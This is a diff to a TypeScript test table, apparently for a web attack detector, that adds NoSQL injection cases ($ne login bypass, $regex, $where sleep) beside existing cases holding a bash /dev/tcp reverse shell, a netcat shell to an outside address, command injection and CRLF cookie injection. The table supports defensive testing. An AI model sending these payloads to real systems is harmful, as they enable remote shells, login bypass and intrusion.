@@ -191,6 +191,14 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ["a debug API's command member in JSON: a command with arguments", post('application/json', '{"task":{"exec":"uname -a"}}'), CMDI, 'json', 'task.exec'],
   ['a reverse shell with no separator, in a form field', post('application/x-www-form-urlencoded', 'host=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261'), CMDI, 'body', 'host'],
   ['netcat running a shell, the whole value of a query argument', get('/diag?target=nc%20198.51.100.7%204444%20-e%20%2Fbin%2Fsh'), CMDI, 'query', 'target'],
+  // NoSQL (MongoDB) operator injection, read as SQL injection.
+  ['NoSQL: a query operator in a form argument\'s name (qs, PHP, Rails read `password[$ne]` as an object)', post('application/x-www-form-urlencoded', 'username=admin&password%5B%24ne%5D=x'), SQLI, 'arg_name', 'password[$ne]'],
+  ['NoSQL: $regex in a query argument\'s name', get('/login?username=admin&password[$regex]=^a'), SQLI, 'arg_name', 'password[$regex]'],
+  ['NoSQL: a query operator over null in a JSON body (the login bypass)', post('application/json', '{"username":{"$ne":null},"password":{"$ne":null}}'), SQLI, 'json', 'username.$ne'],
+  ['NoSQL: $where at the top of a JSON body', post('application/json', '{"$where":"sleep(5000) || true"}'), SQLI, 'json', '$where'],
+  ['NoSQL: a query operator in a multipart field\'s name', multipart('password[$gt]', ''), SQLI, 'multipart', 'password[$gt]'],
+  ['NoSQL: a JSON document with a query operator in a query argument', get('/api/items?filter=%7B%22owner%22%3A%7B%22%24ne%22%3Anull%7D%7D'), SQLI, 'query', 'filter'],
+  ["NoSQL: a $where clause's string broken into JavaScript", get("/login?user=admin%27%20%26%26%20this.password.match(/^a.*$/)//"), SQLI, 'query', 'user'],
   ['CRLF injection as characters whose low byte is CR and LF (U+560D U+560A)', get('/?next=%E5%98%8D%E5%98%8ASet-Cookie:a=1'), CRLF, 'query', 'next'],
 ];
 
